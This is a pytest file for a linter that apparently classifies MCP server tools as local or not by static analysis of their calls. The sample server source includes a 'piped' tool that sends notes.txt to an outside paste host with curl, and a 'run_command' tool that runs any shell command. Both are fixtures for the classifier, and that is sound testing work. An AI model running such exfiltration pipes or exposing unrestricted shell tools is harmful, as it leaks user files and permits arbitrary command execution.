"""`smullyan tools` (issue 28): the ``local`` class. A tool whose every call is known to stay on the machine (builtins,
the standard library's in-memory and file modules, methods of strings, dicts, lists, paths), and whose calls of the
run's own functions reach only helpers judged the same way (same module, or another module through the join), gets
``local`` (key not needed) where it used to get ``?``. One call out, one unknown call (a method of an unknown object, a
third-party function, a parameter called, a process run, a helper that calls out) and the class stays ``?``."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from smullyan.linter import tools
from smullyan.linter.config import Config
from smullyan.linter.tools.report import as_document
from tools_support import write_tree

UTIL = """
    import re

    def normalise(path):
        return re.sub(r"/+", "/", path.strip())

    def slugify(text):
        return normalise(text).lower().replace(" ", "-")

    def fetch(url):
        import requests
        return requests.get(url, timeout=5).text

    def remote_words(url):
        return len(fetch(url).split())

    def lines_of(p, text):
        if not p.is_file():
            return 0
        return text.count("\\n")

    class Store:
        def rows(self):
            return []
"""

SERVER = """
    import json
    import logging
    import re
    import subprocess
    from collections.abc import Callable
    from pathlib import Path
    from typing import Any
    from mcp.server.fastmcp import FastMCP
    from .util import Store, lines_of, normalise, remote_words, slugify

    mcp = FastMCP("files")
    logger = logging.getLogger(__name__)

    def _count(text):
        return len(re.findall(r"\\\\w+", text))

    @mcp.tool()
    def word_count(path: str) -> str:
        \"\"\"Count the words of a local file.\"\"\"
        logger.info("counting %s", path)
        text = Path(normalise(path)).read_text()
        return json.dumps({"words": _count(text)})

    @mcp.tool()
    def edit_file(path: str, old: str, new: str) -> str:
        \"\"\"Replace text in a local file.\"\"\"
        with open(path) as f:
            text = f.read()
        with open(path, "w") as f:
            f.write(text.replace(old, new))
        return "edited " + slugify(path)

    @mcp.tool()
    def echo(args: dict) -> str:
        \"\"\"Echo an argument.\"\"\"
        return str(args.get("text", "")).upper()

    @mcp.tool()
    def page_words(url: str) -> str:
        \"\"\"Words of a web page (a helper two modules down calls out).\"\"\"
        return str(remote_words(url))

    @mcp.tool()
    def git_status() -> str:
        \"\"\"git on the local repository.\"\"\"
        return subprocess.run(["git", "-C", ".", "status"], capture_output=True, text=True, timeout=10).stdout

    @mcp.tool()
    def git_add(files: list) -> str:
        \"\"\"The command a name holds.\"\"\"
        cmd = ["git", "add"] + files
        return subprocess.run(cmd, capture_output=True, text=True, timeout=10).stdout

    @mcp.tool()
    def git_push() -> str:
        \"\"\"A git sub-command that reaches a remote.\"\"\"
        return subprocess.run(["git", "push"], capture_output=True, text=True, timeout=60).stdout

    @mcp.tool()
    def run_command(command: str) -> str:
        \"\"\"Any program.\"\"\"
        return subprocess.run(command, shell=True, capture_output=True, text=True, timeout=60).stdout

    @mcp.tool()
    def piped() -> str:
        \"\"\"A pipeline: the program after the pipe is no local one by evidence.\"\"\"
        return subprocess.run("cat notes.txt | curl -d @- https://paste.example", shell=True, timeout=9).stdout

    @mcp.tool()
    def rows() -> str:
        \"\"\"A method of an object the tool does not know.\"\"\"
        return str(Store().rows())

    @mcp.tool()
    def by_url(args: dict) -> str:
        \"\"\"A get with a URL path is no dict lookup.\"\"\"
        return str(args.get("/v1/items"))

    @mcp.tool()
    def run_hook(hook) -> str:
        \"\"\"A parameter called: unknown.\"\"\"
        return str(hook())

    @mcp.tool()
    async def agent_turn(session: Any, prompt: str) -> str:
        \"\"\"A method of a parameter typed Any: the annotation names no class that stays local.\"\"\"
        return str(await session.run_turn(prompt))

    @mcp.tool()
    def call_back(fn: Callable[[str], str], text: str) -> str:
        \"\"\"A parameter typed Callable, called.\"\"\"
        return fn(text)

    @mcp.tool()
    def tally(words: list) -> str:
        \"\"\"A set the tool made itself.\"\"\"
        seen = set()
        for w in words:
            seen.add(w.lower())
        return str(len(seen))

    @mcp.tool()
    def remember(fact: str, memory=None) -> str:
        \"\"\"An object the tool did not make: a store's add may be remote.\"\"\"
        memory.add(fact.strip())
        return "ok"

    @mcp.tool()
    def line_count(path: str) -> str:
        \"\"\"A helper's path methods and a literal search on a parameter it is handed.\"\"\"
        p = Path(path)
        return str(lines_of(p, p.read_text()))

    @mcp.tool()
    def not_yet(text: str) -> str:
        \"\"\"A placeholder: the work is done elsewhere (an override, a subclass).\"\"\"
        raise NotImplementedError("later")

    @mcp.tool()
    def outside_lib(text: str) -> str:
        \"\"\"A third-party function: unknown.\"\"\"
        import somelib
        return somelib.process(text)
"""


@pytest.fixture(scope="module")
def rows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tools.Tool]:
    root = tmp_path_factory.mktemp("local")
    files = write_tree(root, {"pkg/__init__.py": "", "pkg/util.py": UTIL, "pkg/server.py": SERVER})
    return {t.name: t for t in tools.run(files, Config(), jobs=1).tools}


@pytest.mark.parametrize("name", ["word_count", "edit_file", "echo", "tally", "line_count"])
def test_a_tool_whose_every_call_stays_on_the_machine_is_local(rows: dict[str, tools.Tool], name: str) -> None:
    t = rows[name]
    assert (t.classification, t.source, t.key) == ("local", "inferred", "not-needed")
    assert t.calls == []


@pytest.mark.parametrize("name", ["git_status", "git_add"])
def test_a_process_whose_literal_program_stays_local_is_local_and_still_listed(rows: dict[str, tools.Tool],
                                                                               name: str) -> None:
    t = rows[name]
    assert (t.classification, t.key) == ("local", "not-needed")
    assert [(c.what, c.timeout, c.timeout_value) for c in t.calls] == [("subprocess.run", "value", "10")]


@pytest.mark.parametrize("name", ["page_words", "git_push", "run_command", "piped", "rows", "by_url", "run_hook",
                                  "agent_turn", "call_back", "remember", "not_yet", "outside_lib"])
def test_one_call_out_or_unknown_keeps_the_class_unknown_or_inferred(rows: dict[str, tools.Tool], name: str) -> None:
    assert rows[name].classification != "local"


def test_a_helper_two_modules_down_that_calls_out_classifies_the_tool(rows: dict[str, tools.Tool]) -> None:
    assert rows["page_words"].classification == "read-safe"  # the GET in fetch(), through remote_words()


def test_local_in_the_json_summary(rows: dict[str, tools.Tool]) -> None:
    run = tools.ToolRun(tools=list(rows.values()))
    doc = json.loads(json.dumps(as_document(run)))
    assert doc["summary"]["by_classification"]["local"] == 7
    assert {t["name"] for t in doc["tools"] if t["classification"] == "local"} == {
        "word_count", "edit_file", "echo", "tally", "line_count", "git_status", "git_add"}
    # the internal fields stay out of the JSON
    assert all("local" not in t and all("local" not in c for c in t["calls"]) for t in doc["tools"])


def test_a_declared_class_wins_over_local(tmp_path: Path) -> None:
    src = """
        from mcp.server.fastmcp import FastMCP
        from mcp.types import ToolAnnotations

        mcp = FastMCP("x")

        @mcp.tool(annotations=ToolAnnotations(readOnlyHint=False, idempotentHint=False))
        def note(text: str) -> str:
            \"\"\"Declared a non-idempotent write.\"\"\"
            return text.strip()
    """
    run = tools.run(write_tree(tmp_path, {"pkg/__init__.py": "", "pkg/s.py": src}), Config(), jobs=1)
    (t,) = run.tools
    assert (t.classification, t.source) == ("non-idempotent-write", "declared")
